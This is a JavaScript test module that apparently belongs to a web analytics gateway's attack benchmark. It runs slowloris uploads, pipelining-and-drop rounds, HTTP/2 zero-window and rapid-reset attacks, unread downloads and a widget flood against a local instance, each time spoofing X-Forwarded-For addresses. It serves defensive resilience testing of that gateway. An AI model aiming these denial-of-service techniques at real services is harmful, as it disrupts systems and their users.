// The attackers of `npm run bench:attack`, each from the addresses an attacker controls (the
// gateway trusts X-Forwarded-For from 127.0.0.1). Each attack resolves with { stats, stop() }:
// stats are read when its phase ends, stop() lets go of whatever it still holds. Every one is
// bounded in count and time, whatever the gateway does.
import { connect as http2Connect } from 'node:http2';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { request } from 'undici';
import { API_KEY, WORKSPACE } from './attack-gateway.js';
import { ROOT, httpRequest, startNode } from './processes.js';

export const ATTACKER = '203.0.113.66';
const BROWSER =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';

const tally = (into, key) => (into[key] = (into[key] ?? 0) + 1);
const errorCode = (text, status) => /"code":"([a-z_]+)"/.exec(text)?.[1] ?? String(status);

/** Runs `task(i)` for i < count, `concurrency` at a time. */
async function pool(count, concurrency, task) {
  let next = 0;
  const worker = async () => {
    while (next < count) await task(next++);
  };
  await Promise.all(Array.from({ length: Math.min(count, concurrency) }, worker));
}

/** A visitor session of the widget for `address` (the attacker's are free too). */
async function widgetSession(port, dispatcher, address, userAgent = 'attacker') {
  const res = await request(`http://127.0.0.1:${port}/api/v1/widget/init`, {
    method: 'POST',
    dispatcher,
    headers: { 'content-type': 'application/json', 'x-forwarded-for': address, 'user-agent': userAgent },
    body: JSON.stringify({ workspace: WORKSPACE }),
    signal: AbortSignal.timeout(10_000),
  });
  const body = await res.body.json().catch(() => ({}));
  if (res.statusCode !== 200 || !body.token) throw new Error(`widget init answered ${res.statusCode}`);
  return body.token;
}

/**
 * Slow uploads: `clients` connections from one address, each declaring 10 kB and sending a byte
 * every 2 s; one that is answered comes back 2 s later.
 */
export function slowUploads(port, { clients }) {
  const stats = { attempts: 0, answered: {}, open: 0 };
  const sockets = new Set();
  let stopped = false;
  const one = () => {
    if (stopped) return;
    stats.attempts++;
    const socket = connect(port, '127.0.0.1');
    sockets.add(socket);
    let text = '';
    let timer;
    let connected = false;
    socket.on('connect', () => {
      connected = true;
      stats.open++;
      socket.write(
        'POST /api/v1/widget/init HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\n' +
          `Content-Length: 10000\r\nX-Forwarded-For: ${ATTACKER}\r\nUser-Agent: slowloris\r\n\r\n{`,
      );
      timer = setInterval(() => socket.write(' '), 2000);
    });
    socket.on('data', (d) => (text += d));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      sockets.delete(socket);
      if (connected) stats.open--;
      tally(stats.answered, errorCode(text, text.split(' ')[1] || 'closed'));
      if (!stopped) setTimeout(one, 2000).unref();
    });
  };
  for (let i = 0; i < clients; i++) one();
  return {
    stats,
    stop() {
      stopped = true;
      for (const s of sockets) s.destroy();
    },
  };
}

/** Event streams of one visitor session, `clients` of them; a refused or ended one is retried 5 s later. */
export async function sessionStreams(port, dispatcher, { clients }) {
  const token = await widgetSession(port, dispatcher, ATTACKER, 'streamer');
  const stats = { attempts: 0, answered: {}, open: 0 };
  const bodies = new Set();
  let stopped = false;
  const one = async () => {
    while (!stopped) {
      stats.attempts++;
      try {
        const res = await request(`http://127.0.0.1:${port}/api/v1/widget/messages/stream`, {
          method: 'POST',
          dispatcher,
          headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': ATTACKER },
          signal: AbortSignal.timeout(60_000),
        });
        if (res.statusCode === 200) {
          tally(stats.answered, '200');
          stats.open++;
          bodies.add(res.body);
          await res.body.dump({ limit: Infinity }).catch(() => {});
          bodies.delete(res.body);
          stats.open--;
        } else {
          tally(stats.answered, errorCode(await res.body.text(), res.statusCode));
        }
      } catch {
        tally(stats.answered, 'error');
      }
      if (!stopped) await sleep(5000);
    }
  };
  for (let i = 0; i < clients; i++) void one();
  return {
    stats,
    stop() {
      stopped = true;
      for (const b of bodies) b.destroy();
    },
  };
}

/**
 * How a pipelining connection is dropped. The gateway leaks only when the close meets answers
 * still queued, so the rounds cycle through closes at different moments: at once, half-closed
 * (FIN after the requests), 5 ms later, at the first byte of the answer, and reset at that byte.
 */
const DROPS = ['destroy', 'end', 'delay', 'data', 'reset'];
/** The polls leave the drop at once out: the gateway then mostly drops the polls before forwarding them. */
const POLL_DROPS = ['end', 'data', 'reset'];

/**
 * One connection writing `depth` pipelined copies of `head` at once, then dropped as `drop` says
 * (at the latest after 2 s). Resolves when it is closed.
 */
function pipelineAndDrop(port, { depth, head, drop }) {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const timer = setTimeout(() => socket.destroy(), 2000);
    socket.on('connect', () => {
      socket.write(head.repeat(depth));
      if (drop === 'destroy') socket.destroy();
      else if (drop === 'end') socket.end();
      else if (drop === 'delay') setTimeout(() => socket.destroy(), 5);
    });
    socket.once('data', () => (drop === 'reset' ? socket.resetAndDestroy() : socket.destroy()));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

/** `rounds` rounds of 2 connections × 40 pipelined `head`, dropped in turn each way of `drops`. */
async function pipelineRounds(port, head, rounds, drops = DROPS) {
  for (let r = 0; r < rounds; r++) {
    await Promise.all(
      [0, 1].map((c) => pipelineAndDrop(port, { depth: 40, head, drop: drops[(r + c) % drops.length] })),
    );
  }
  return rounds * 80;
}

const scriptHead = (address) =>
  `GET /js/script.js HTTP/1.1\r\nHost: bench\r\nX-Forwarded-For: ${address}\r\nUser-Agent: pipeliner\r\n\r\n`;

/**
 * Pipelining and dropped connections (issue 18, finding 1): `rounds` rounds of 2 connections × 40
 * pipelined GET /js/script.js from the attacker, dropped; then, from 4 other addresses, a free
 * visitor session each with 50 long messages, and 2 rounds of 2 connections × 40 pipelined
 * conversation polls, dropped.
 */
export async function pipelining(port, dispatcher, { rounds = 10 } = {}) {
  const stats = { requests: 0, pollers: 0 };
  stats.requests += await pipelineRounds(port, scriptHead(ATTACKER), rounds);
  // Every session and its conversation first: the polls may starve the widget upstream.
  const pollers = ['203.0.113.80', '203.0.113.81', '203.0.113.82', '203.0.113.83'];
  const sessions = await Promise.all(
    pollers.map(async (address) => {
      const token = await widgetSession(port, dispatcher, address).catch(() => undefined);
      if (!token) return undefined;
      stats.pollers++;
      // A conversation of 50 long messages: each poll's answer (~200 kB) outgrows the socket buffers.
      for (let m = 0; m < 50; m++) {
        await request(`http://127.0.0.1:${port}/api/v1/widget/messages`, {
          method: 'POST',
          dispatcher,
          headers: {
            authorization: `Bearer ${token}`,
            'content-type': 'application/json',
            'x-forwarded-for': address,
          },
          body: JSON.stringify({ body: 'p'.repeat(4000) }),
          signal: AbortSignal.timeout(10_000),
        })
          .then((res) => res.body.dump())
          .catch(() => {});
      }
      return { address, token };
    }),
  );
  await Promise.all(
    sessions.filter(Boolean).map(async ({ address, token }) => {
      const head =
        'GET /api/v1/widget/conversation/messages HTTP/1.1\r\nHost: bench\r\n' +
        `Authorization: Bearer ${token}\r\nX-Forwarded-For: ${address}\r\nUser-Agent: poller\r\n\r\n`;
      stats.requests += await pipelineRounds(port, head, 2, POLL_DROPS);
    }),
  );
  return { stats, stop() {} };
}

/** The attacker's own address afterwards: `count` GET /js/script.js at once, on fresh connections. */
export async function attackerProbe(port, count = 16) {
  const answered = {};
  await Promise.all(
    Array.from({ length: count }, () =>
      httpRequest(port, {
        path: '/js/script.js',
        headers: { 'x-forwarded-for': ATTACKER, 'user-agent': 'probe' },
        timeoutMs: 5000,
      })
        .then((r) => tally(answered, r.status === 200 ? '200' : errorCode(r.body, r.status)))
        .catch(() => tally(answered, 'timeout')),
    ),
  );
  return answered;
}

export const EXPORT_SITE = 'export.bench.example';

/**
 * A public statistics page with `pages` distinct pages of ~250-character paths, recorded today through the
 * collector (as anyone can: finding 10), from many addresses so no collector limit trips.
 * Resolves with the size of its pages CSV.
 */
export async function seedExportSite(port, dispatcher, { pages, withinMs = 120_000 }) {
  const until = performance.now() + withinMs;
  const site = await request(`http://127.0.0.1:${port}/api/v1/websites`, {
    method: 'POST',
    dispatcher,
    headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/x-www-form-urlencoded' },
    body: `url=${EXPORT_SITE}&privacy=0`,
    signal: AbortSignal.timeout(10_000),
  });
  const created = await site.body.text();
  if (site.statusCode >= 300) throw new Error(`creating the website answered ${site.statusCode}: ${created}`);
  const padding = 'a'.repeat(240); // stored paths are cut at 255 characters
  const recorded = {};
  await pool(pages, 32, async (i) => {
    if (performance.now() > until) return tally(recorded, 'not sent (out of time)');
    const page = `https://${EXPORT_SITE}/p/${i}/${padding}`;
    try {
      const res = await request(`http://127.0.0.1:${port}/api/event`, {
        method: 'POST',
        dispatcher,
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          'user-agent': BROWSER,
          'x-forwarded-for': `100.64.${Math.floor(i / 250) % 250}.${(i % 250) + 1}`,
        },
        body: `page=${encodeURIComponent(page)}`,
        signal: AbortSignal.timeout(10_000),
      });
      await res.body.dump();
      tally(recorded, String(res.statusCode));
    } catch {
      tally(recorded, 'error');
    }
  });
  const csv = await request(`http://127.0.0.1:${port}/${EXPORT_SITE}/pages.csv`, {
    dispatcher,
    headers: { 'x-forwarded-for': '192.0.2.10' },
    signal: AbortSignal.timeout(60_000),
  });
  const bytes = (await csv.body.arrayBuffer()).byteLength;
  return { recorded, csvStatus: csv.statusCode, csvBytes: bytes };
}

/**
 * CSV exports never read (finding 2): `count` downloads of the export site's pages CSV from 2
 * addresses, each on a connection that never reads a byte. They stay open until stop().
 */
export function unreadDownloads(port, { count }) {
  const stats = { sent: 0, closedByGateway: 0 };
  const sockets = new Set();
  for (let i = 0; i < count; i++) {
    const address = i % 2 === 0 ? '203.0.113.90' : '203.0.113.91';
    const socket = connect(port, '127.0.0.1');
    socket.pause(); // never read: the answer waits in the gateway
    sockets.add(socket);
    socket.on('connect', () => {
      stats.sent++;
      socket.write(
        `GET /${EXPORT_SITE}/pages.csv HTTP/1.1\r\nHost: bench\r\nX-Forwarded-For: ${address}\r\n` +
          'User-Agent: exporter\r\n\r\n',
      );
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      if (sockets.delete(socket)) stats.closedByGateway++;
    });
  }
  return {
    stats,
    stop() {
      const all = [...sockets];
      sockets.clear();
      for (const s of all) s.destroy();
    },
  };
}

/**
 * Slow readers over HTTP/2 (finding 3): `clients` connections, each from an address of its own,
 * advertising a zero receive window, each with `streams` GETs of the 51 kB chart script.
 */
export function zeroWindowReaders(tlsPort, ca, { clients = 2, streams = 64 } = {}) {
  const stats = { streams: 0, headers: {}, errors: 0, sessionsClosed: 0 };
  const sessions = [];
  for (let c = 0; c < clients; c++) {
    const address = `203.0.113.${100 + c}`;
    const session = http2Connect(`https://127.0.0.1:${tlsPort}`, {
      ca,
      settings: { initialWindowSize: 0 },
    });
    session.on('error', () => stats.errors++);
    session.on('close', () => stats.sessionsClosed++);
    sessions.push(session);
    for (let s = 0; s < streams; s++) {
      const stream = session.request({
        ':path': '/_/assets/uplot.min.js',
        'x-forwarded-for': address,
        'user-agent': 'zero-window',
      });
      stats.streams++;
      stream.on('response', (h) => tally(stats.headers, String(h[':status'])));
      stream.on('error', () => {});
      stream.pause();
    }
  }
  return {
    stats,
    stop() {
      for (const s of sessions) s.destroy();
    },
  };
}

/**
 * Rapid reset (finding 4), in 2 child processes so this one stays free to time the visitors:
 * `connections` HTTP/2 connections in all, `concurrency` at a time per process, each opening and
 * resetting up to `streams` streams; every child stops by itself after `seconds`.
 */
export function rapidReset(tlsPort, caFile, { connections, streams, seconds, concurrency = 4 }) {
  const procs = [0, 1].map((n) =>
    startNode(`rapid-reset-${n}`, join(ROOT, 'bench', 'lib', 'rapid-reset-client.mjs'), {
      args: [
        `https://127.0.0.1:${tlsPort}/js/script.js`,
        caFile,
        String(Math.ceil(connections / 2)),
        String(concurrency),
        String(streams),
        String(seconds * 1000),
        ATTACKER,
      ],
    }),
  );
  const stats = { connections: 0, opened: 0, goaway: 0, closedBeforeGoaway: 0, errors: 0, unfinished: 0 };
  const read = () => {
    for (const p of procs) {
      const line = [...p.lines].reverse().find((l) => l.startsWith('{"connections"'));
      if (!line) {
        stats.unfinished++;
        continue;
      }
      const r = JSON.parse(line);
      for (const k of ['connections', 'opened', 'goaway', 'closedBeforeGoaway', 'errors']) stats[k] += r[k];
    }
  };
  return {
    stats,
    // The children end by themselves; past their time and 10 s more they are stopped.
    async finished() {
      await Promise.race([Promise.all(procs.map((p) => p.exited)), sleep(seconds * 1000 + 10_000)]);
      for (const p of procs) if (p.alive) p.child.kill('SIGKILL');
      read();
    },
    stop() {
      for (const p of procs) if (p.alive) p.child.kill('SIGKILL');
    },
  };
}

/**
 * Widget flood (finding 5): `sessions` free visitor sessions from the attacker's address, then
 * `concurrency` posters sending 4,000-character messages round the sessions for `seconds`.
 */
export async function widgetFlood(port, dispatcher, { sessions, seconds, concurrency = 48 }) {
  const stats = { sessions: 0, sessionErrors: 0, answered: {} };
  const tokens = [];
  const started = performance.now();
  await pool(sessions, 16, async (i) => {
    if (performance.now() - started > seconds * 1000) return;
    try {
      tokens.push(await widgetSession(port, dispatcher, ATTACKER, `flood-${i % 8}`));
      stats.sessions++;
    } catch {
      stats.sessionErrors++;
    }
  });
  let stopped = false;
  const deadline = performance.now() + seconds * 1000;
  const body = JSON.stringify({ body: 'm'.repeat(4000) });
  let next = 0;
  const poster = async () => {
    while (!stopped && performance.now() < deadline && tokens.length > 0) {
      const token = tokens[next++ % tokens.length];
      try {
        const res = await request(`http://127.0.0.1:${port}/api/v1/widget/messages`, {
          method: 'POST',
          dispatcher,
          headers: {
            authorization: `Bearer ${token}`,
            'content-type': 'application/json',
            'x-forwarded-for': ATTACKER,
          },
          body,
          signal: AbortSignal.timeout(10_000),
        });
        const text = await res.body.text();
        tally(stats.answered, res.statusCode === 201 ? '201' : errorCode(text, res.statusCode));
        if (res.statusCode === 429) await sleep(200);
      } catch {
        tally(stats.answered, 'error');
      }
    }
  };
  const posting = Promise.all(Array.from({ length: concurrency }, poster));
  return {
    stats,
    finished: () => posting,
    stop() {
      stopped = true;
    },
  };
}
